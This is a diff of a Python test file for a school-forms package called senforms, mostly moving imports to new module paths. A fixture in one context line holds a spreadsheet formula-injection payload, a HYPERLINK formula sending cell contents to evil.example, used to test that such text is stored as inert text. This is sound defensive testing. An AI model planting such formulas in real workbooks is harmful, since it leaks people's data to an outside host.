@@ -28,12 +28,12 @@ from docx.oxml.ns import nsdecls, qn
 from lxml import etree
 from pypdf import PdfReader
 
-from senforms.batch import BatchOptions, make_documents
+from senforms.documents.batch import BatchOptions, make_documents
 from senforms.bundle import BundleDocument, BundleSection, BundleSpec, build_bundle, intake
 from senforms.cli import cli
 from senforms.errors import EvidenceError, InputError, UnreadableFileError
 from senforms.inputs import load_register
-from senforms.naming import MAX_NAME_BYTES
+from senforms.outputs.naming import MAX_NAME_BYTES
 
 from .conftest import AS_OF, ROOT, SAMPLES
 from .corpus import make
@@ -471,7 +471,7 @@ FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&B1,"Click")', "+44 7700 90
 
 
 def test_formula_like_text_is_written_to_workbooks_as_text(tmp_path, sample_register):
-    from senforms.workbook import build_workbook, save_workbook
+    from senforms.inputs.workbook import build_workbook, save_workbook
 
     register = sample_register.model_copy(deep=True)
     pupil = register.pupils[0]
